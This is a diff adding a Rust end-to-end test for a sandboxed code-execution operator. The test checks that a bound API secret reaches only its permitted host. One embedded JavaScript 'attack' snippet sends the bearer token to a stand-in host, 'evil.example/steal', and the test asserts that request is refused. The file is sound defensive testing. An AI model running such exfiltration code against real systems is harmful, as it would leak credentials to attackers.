@@ -1219,3 +1219,141 @@ async fn the_operator_binary_serves_the_callback_over_https_and_runners_verify_i
     );
     assert_eq!(env.up.requests().len(), 1, "one upstream call");
 }
+
+/// Creates Execution `name` under `permit` with `code` in `language` and `args`.
+async fn run_code(env: &Env, name: &str, permit: &str, language: &str, code: &str, args: Value) {
+    let spec: ExecutionSpec = serde_json::from_value(json!({
+        "permitRef": permit, "code": code, "language": language, "args": args,
+        "timeoutSeconds": 20
+    }))
+    .expect("spec");
+    Api::<Execution>::namespaced(env.client.clone(), &env.ns)
+        .create(&PostParams::default(), &Execution::new(name, spec))
+        .await
+        .expect("execution");
+}
+
+/// Existing fetch() code runs unchanged under a fetch capability: a Deno script, a
+/// `process.env` + `Headers` + `Request` one in TypeScript; the secret reaches the upstream
+/// only in the bound header toward the bound host, and never the code, its output or status.
+#[tokio::test]
+async fn unchanged_fetch_code_runs_and_the_secret_reaches_only_the_bound_host() {
+    let Some(env) = Env::new("e2e-fetch").await else {
+        return;
+    };
+    let op = env.operator().await;
+    let port = env.up.addr.port();
+    env.permit_spec(
+        "web",
+        json!({
+            "description": "run existing fetch code", "validFor": "1h",
+            "secrets": ["API_TOKEN"],
+            "capabilities": [{
+                "name": "upstream",
+                "hosts": [format!("127.0.0.1:{port}"), format!("localhost:{port}")],
+                "methods": ["GET"],
+                "paths": ["/v1/**"],
+                "secretBindings": [{"secret": "API_TOKEN", "hosts": [format!("127.0.0.1:{port}")]}]
+            }]
+        }),
+    )
+    .await;
+    env.approve("web").await;
+    let args = json!({"ORIGIN": env.up.origin(), "PORT": port});
+
+    let deno = r#"
+        const res = await fetch(`${Deno.env.get('ORIGIN')}/v1/echo-auth`, {
+            headers: { Authorization: 'Bearer ' + Deno.env.get('API_TOKEN') },
+        });
+        const body = await res.json();
+        console.log('token is', Deno.env.get('API_TOKEN'));
+        return { status: res.status, ok: res.ok, echoed: body.authorization };
+    "#;
+    run_code(&env, "deno", "web", "javascript", deno, args.clone()).await;
+    let done = env.wait_exec("deno", "finished", finished).await;
+    let status = done.status.clone().expect("status");
+    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
+    let result = status.result.clone().expect("result");
+    assert_eq!(result["status"], 200, "{result}");
+    assert_eq!(result["ok"], true);
+    assert_eq!(result["echoed"], json!(["Bearer [REDACTED]"]), "{result}");
+    let sent = env.up.assert_received(1, "one request");
+    assert_eq!(
+        sent[0].header_values("authorization"),
+        [format!("Bearer {SECRET}").as_str()]
+    );
+    assert!(
+        status
+            .stdout
+            .as_deref()
+            .is_some_and(|o| o.contains("token is OAUTH3_SECRET_API_TOKEN_")),
+        "the code only ever held the placeholder: {status:?}"
+    );
+
+    let ts = r#"
+        interface Echo { authorization: string[] }
+        const headers = new Headers({ Accept: 'application/json' });
+        headers.set('authorization', `Bearer ${process.env.API_TOKEN!}`);
+        const req = new Request(new URL('/v1/echo-auth', process.env.ORIGIN!), { headers });
+        const r = await fetch(req);
+        const e: Echo = await r.json();
+        const missing = await fetch(`${process.env.ORIGIN}/v1/missing`);
+        return { ok: r.ok, n: e.authorization.length, missing: missing.status, text: await missing.text() };
+    "#;
+    run_code(&env, "ts", "web", "typescript", ts, args.clone()).await;
+    let done = env.wait_exec("ts", "finished", finished).await;
+    let status = done.status.clone().expect("status");
+    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
+    let result = status.result.clone().expect("result");
+    assert_eq!(
+        result,
+        json!({"ok": true, "n": 1, "missing": 404, "text": "no such thing here"})
+    );
+    let sent = env.up.assert_received(3, "two more requests");
+    assert_eq!(
+        sent[1].header_values("authorization"),
+        [format!("Bearer {SECRET}").as_str()]
+    );
+    assert!(sent[2].header_values("authorization").is_empty());
+
+    // The attacker's side: the placeholder, cut and glued back, toward a host the capability
+    // lists but the binding does not name; and toward a host nobody listed.
+    let attack = r#"
+        const p = Deno.env.get('API_TOKEN');
+        const out = [];
+        for (const url of [`https://localhost:${args.PORT}/v1/echo-auth`, 'https://evil.example/steal']) {
+            try {
+                await fetch(url, { headers: { Authorization: 'Bearer ' + p.slice(0, 5) + p.slice(5) } });
+                out.push('sent');
+            } catch (e) {
+                out.push(`${e.name}: ${e.message}`);
+            }
+        }
+        return out;
+    "#;
+    run_code(&env, "attack", "web", "javascript", attack, args).await;
+    let done = env.wait_exec("attack", "finished", finished).await;
+    let status = done.status.clone().expect("status");
+    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
+    let result = status.result.clone().expect("result");
+    let out: Vec<String> = serde_json::from_value(result.clone()).expect("strings");
+    assert!(
+        out[0].starts_with("TypeError: ") && out[0].contains("may not be sent to localhost"),
+        "{result}"
+    );
+    assert!(
+        out[1].starts_with("TypeError: ") && out[1].contains("not in the hosts"),
+        "{result}"
+    );
+    env.up
+        .assert_received(3, "the refused requests sent nothing");
+    for name in ["deno", "ts", "attack"] {
+        let e = Api::<Execution>::namespaced(env.client.clone(), &env.ns)
+            .get(name)
+            .await
+            .expect("execution");
+        let shown = serde_json::to_string(&e).expect("json");
+        assert!(!shown.contains(SECRET), "{name} leaked the secret: {shown}");
+    }
+    op.stop().await;
+}
